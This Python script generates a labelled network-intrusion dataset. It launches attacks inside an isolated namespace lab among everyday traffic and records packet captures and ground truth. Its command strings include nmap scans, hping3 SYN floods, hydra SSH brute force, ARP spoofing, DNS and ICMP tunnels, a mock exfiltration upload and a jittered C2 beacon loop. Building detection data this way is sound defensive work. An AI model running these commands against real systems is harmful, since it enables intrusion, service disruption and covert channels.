#!/usr/bin/env python3
"""Records the lab while somebody attacks with the usual tools, among everyday traffic: captures, and the truth with labels.

Which attack comes when, and with what arguments, follows from the seed. Takes about six minutes. Needs root, ip(8), tcpdump, nmap, hping3, hydra,
arpspoof (dsniff), iodine, sshd and curl. Only the lab's own namespaces are attacked. Exit codes: 0 done; 1 not possible here.
"""
import argparse
import contextlib
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

sys.dont_write_bytecode = True

import lab
from labnet import fabric, namespaces, topology, traffic
from labnet.namespaces import Missing
from moves import recorded

TOOLS = ("tcpdump", "nmap", "hping3", "hydra", "arpspoof", "iodine", "iodined", "sshd", "curl")
PAUSE_SECONDS = 6
SETTLE_SECONDS = 3
ENDED_SECONDS = 5
SLOWEST_SECONDS = 150
LEAST_SECONDS = 330  # a beacon of that length has been one for long enough
LABEL_SLACK_US = 200_000
EVERYDAY = traffic.WEB + traffic.NAMES + traffic.LOGS + traffic.PINGS
NAMES_PORT, SSH_PORT, UPLOAD_PORT, CONTROL_PORT, TUNNEL_PORT = 53, 22, 9443, 8443, 53
SSH_SERVERS = ("vm1", "vm2", "vm3", "vm4")
CONTROLLER, CONTROLLED, TUNNEL_SERVER, TUNNEL_CLIENT, STORE = "vm8", "vm3", "vm7", "vm4", "vm6"


@dataclass(frozen=True)
class Attack:
    """One command, by whom and on whom; `target` None: several. `beside`: it runs while the others come and go."""

    name: str
    technique: str
    source: str
    target: str | None
    command: str
    seconds: float = 30  # it is ended then
    beside: bool = False


def address(vm: str) -> str:
    return topology.VMS[vm].address


def attacks(chance: random.Random, folder: Path) -> list[Attack]:
    """All of them, in an order of their own."""
    subnet1, subnet2 = topology.SUBNETS
    words = folder / "words"
    words.write_text("".join(f"guess{chance.randrange(10**6)}\n" for _ in range(chance.randrange(12, 25))))
    upload = chance.randrange(3, 9)
    once = [
        Attack("scan-vertical-T4", "T1046", "vm7", "vm1", f"nmap -n -Pn -sS -T4 --top-ports {chance.randrange(200, 800)} {address('vm1')}"),
        Attack("scan-vertical-T3", "T1046", "vm6", "vm4", f"nmap -n -Pn -sS -T3 --top-ports {chance.randrange(100, 400)} {address('vm4')}"),
        Attack("scan-vertical-T2", "T1046", "vm5", "vm3", f"nmap -n -Pn -sS -T2 --top-ports {chance.randrange(30, 50)} {address('vm3')}"),
        Attack("scan-connect-T5", "T1046", "vm8", "vm2", f"nmap -n -Pn -sT -T5 --top-ports {chance.randrange(100, 300)} {address('vm2')}"),
        Attack("scan-udp", "T1046", "vm6", "vm1", f"nmap -n -Pn -sU -T4 --max-retries 1 --top-ports {chance.randrange(20, 40)} {address('vm1')}"),
        Attack("scan-horizontal", "T1018", "vm7", None,
               f"nmap -n -sn -PS22,443 -T4 {subnet1.address(chance.randrange(8, 20))}-{chance.randrange(80, 120)}"),
        Attack("sweep-arp", "T1018", "vm2", None, f"nmap -n -sn -T4 {subnet1.address(32)}/{chance.choice((25, 26, 27))}"),
        Attack("synflood", "T1499", "vm5", "vm4", f"hping3 -q -S -p {SSH_PORT} -i u{chance.randrange(800, 5_000)} -c 2500 {address('vm4')}"),
        Attack("synflood-spoofed", "T1499", "vm6", "vm2",
               f"hping3 -q -S -p {SSH_PORT} --rand-source -i u{chance.randrange(800, 5_000)} -c 2500 {address('vm2')}"),
        Attack("bruteforce-ssh", "T1110", "vm6", "vm3",
               f"hydra -q -I -l root -P {words} -t {chance.randrange(1, 4)} ssh://{address('vm3')}", seconds=60),
        Attack("fanout", "T1021", "vm8", None,
               "; ".join(f"curl -s -m 1 telnet://{address(vm)}:{SSH_PORT} </dev/null" for vm in SSH_SERVERS)),
        Attack("exfil", "T1048", "vm1", STORE,
               f"head -c {upload}000000 /dev/urandom | curl -s -m 20 --data-binary @- http://{address(STORE)}:{UPLOAD_PORT}/"),
        Attack("tunnel-icmp", "T1095", "vm3", "vm5",
               f"hping3 -q -1 -d {chance.randrange(700, 1_300)} -i u{chance.randrange(20_000, 60_000)} -c 400 {address('vm5')}"),
        Attack("tunnel-dns", "T1071.004", TUNNEL_CLIENT, TUNNEL_SERVER, tunnel(chance), seconds=40),
        Attack("spoof-arp", "T1557.002", "vm2", "vm1", f"arpspoof -i eth0 -t {address('vm1')} {subnet1.gateway}", seconds=15),
    ]
    chance.shuffle(once)
    period = chance.randrange(6, 10)
    jitter = chance.choice((0.1, 0.3, 0.5))
    beacon = (f"while :; do curl -s -m 2 http://{address(CONTROLLER)}:{CONTROL_PORT}/ >/dev/null;"
              f" sleep $(awk 'BEGIN {{srand('$RANDOM'); print {period} * (1 + {jitter} * (2 * rand() - 1))}}'); done")
    return [
        Attack("beacon", "T1071", CONTROLLED, CONTROLLER, beacon, seconds=10_000, beside=True),
        Attack("scan-vertical-T1", "T1046", "vm7", "vm2", f"nmap -n -Pn -sS -T1 --top-ports 9 {address('vm2')}", SLOWEST_SECONDS, beside=True),
        *once]


def tunnel(chance: random.Random) -> str:
    """A tunnel over DNS, and something that goes through it."""
    return (f"iodine -f -r -m 768 -I 1 -P secret {address(TUNNEL_SERVER)} t.lab >/dev/null 2>&1 & sleep 6;"
            f" hping3 -q -1 -i u100000 -c 150 -d {chance.randrange(300, 900)} 10.77.0.1")


SERVER = """
import http.server, sys
class Take(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Length", "120"); self.end_headers(); self.wfile.write(bytes(120))
    def do_POST(self):
        left = int(self.headers["Content-Length"])
        while left > 0:
            left -= len(self.rfile.read(min(left, 65536))) or left
        self.do_GET()
    def log_message(self, *_): pass
http.server.ThreadingHTTPServer(("", int(sys.argv[1])), Take).serve_forever()
"""


@contextlib.contextmanager
def run(vm: str, command: list[str]):
    """A process and its children inside a machine; ended with the context."""
    process = subprocess.Popen(["ip", "netns", "exec", topology.PREFIX + vm, *command], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, 15)
        try:
            process.wait(ENDED_SECONDS)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, 9)


@contextlib.contextmanager
def servers(folder: Path):
    """What is attacked, besides the everyday services."""
    key = folder / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    Path("/run/sshd").mkdir(exist_ok=True)
    sshd = [shutil.which("sshd"), "-D", "-f", "/dev/null", "-p", str(SSH_PORT), "-h", str(key), "-o", "UsePAM=no", "-o", "PidFile=none",
            "-o", "MaxStartups=200"]
    with contextlib.ExitStack() as stack:
        for vm in SSH_SERVERS:
            stack.enter_context(run(vm, sshd))
        stack.enter_context(run(CONTROLLER, [sys.executable, "-c", SERVER, str(CONTROL_PORT)]))
        stack.enter_context(run(STORE, [sys.executable, "-c", SERVER, str(UPLOAD_PORT)]))
        stack.enter_context(run(TUNNEL_SERVER, ["iodined", "-f", "-c", "-P", "secret", "10.77.0.1", "t.lab"]))
        yield


def attacked(number: int, attack: Attack, done: list[dict]) -> None:
    start_us = time.time_ns() // 1_000
    with run(attack.source, ["bash", "-c", attack.command]) as process:
        with contextlib.suppress(subprocess.TimeoutExpired):
            process.wait(attack.seconds)
    done.append({"id": f"a{number:02}", "scenario": attack.name, "kind": "attack", "technique": attack.technique, "source": attack.source,
                 "target": attack.target, "start_us": start_us, "end_us": time.time_ns() // 1_000, "commands": [attack.command]})


def played(chance: random.Random, folder: Path) -> list[dict]:
    """Everyday traffic, and the attacks one after the other; the scenarios as they were."""
    done, plan, until = [], attacks(chance, folder), time.monotonic() + LEAST_SECONDS
    beside = [attack for attack in plan if attack.beside]
    threads = [threading.Thread(target=attacked, args=(i, attack, done), daemon=True) for i, attack in enumerate(beside, 1)]
    time.sleep(SETTLE_SECONDS)
    for thread in threads:
        thread.start()
    for number, attack in enumerate([attack for attack in plan if not attack.beside], len(beside) + 1):
        time.sleep(chance.uniform(0.7, 1.3) * PAUSE_SECONDS)
        print(f"{attack.name}: {attack.command}", flush=True)
        attacked(number, attack, done)
    threads[1].join()
    time.sleep(max(0, until - time.monotonic()))
    now_us = time.time_ns() // 1_000
    started = {scenario["id"] for scenario in done}
    if "a01" not in started:  # it is ended with the lab
        beacon = plan[0]
        done.append({"id": "a01", "scenario": beacon.name, "kind": "attack", "technique": beacon.technique, "source": beacon.source,
                     "target": beacon.target, "start_us": done[0]["start_us"] - 1, "end_us": now_us, "commands": [beacon.command]})
    return sorted(done, key=lambda scenario: scenario["start_us"])


def labelled(truth: dict, scenarios: list[dict]) -> dict:
    """Flows of an attack: from its source, to its target, while it lasted, and not of everyday traffic; forged ones by the target alone."""
    everyday = {(talk.client, talk.server, talk.port) for talk in EVERYDAY}
    for flow in truth["flows"]:
        first, second = ("a", "b") if flow["initiator"] == "a" else ("b", "a")
        source, target, port = flow[first]["vm"], flow[second]["vm"], flow[second]["port"]
        flow["labels"] = [
            scenario["id"] for scenario in scenarios
            if scenario["start_us"] - LABEL_SLACK_US <= flow["start_us"] <= scenario["end_us"] + LABEL_SLACK_US
            and (source == scenario["source"] or (source is None and scenario["scenario"].endswith("spoofed")))
            and scenario["target"] in (None, target)
            and (source, target, port) not in everyday]
    return {**truth, "scenarios": scenarios}


def record(folder: Path, seed: int) -> None:
    missing = [tool for tool in TOOLS if not shutil.which(tool)]
    if missing:
        raise Missing(f"Not installed: {', '.join(missing)} (Debian: tcpdump nmap hping3 hydra dsniff iodine openssh-server curl)")
    folder.mkdir(parents=True, exist_ok=True)
    namespaces.check()
    lab.clear()
    chance = random.Random(seed)
    try:
        lab.build()
        with tempfile.TemporaryDirectory() as work, recorded(folder), servers(Path(work)):
            everyday = threading.Thread(target=everyday_traffic, daemon=True)
            everyday.start()
            scenarios = played(chance, Path(work))
            truth = fabric.ask("truth")
    finally:
        lab.clear()
    (folder / "truth.json").write_text(json.dumps(labelled(truth, scenarios)) + "\n")


def everyday_traffic() -> None:
    """Until the lab is cleared away; what an attack disturbs in it is no failure."""
    with contextlib.suppress(traffic.TrafficFailed, ValueError, OSError):
        while True:
            traffic.play(EVERYDAY, 20)


def main() -> int:
    parser = argparse.ArgumentParser(prog="attacks.py", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("folder", type=Path, help="where the captures and truth.json go")
    parser.add_argument("--seed", type=int, default=1, help="order and arguments of the attacks follow from it")
    options = parser.parse_args()
    try:
        if os.geteuid():
            raise Missing("Not root. The lab makes network namespaces and interfaces; run it with sudo.")
        record(options.folder, options.seed)
        return 0
    except (Missing, fabric.NotUp, OSError) as e:
        print(e, file=sys.stderr)
    return 1


if __name__ == "__main__":
    sys.exit(main())
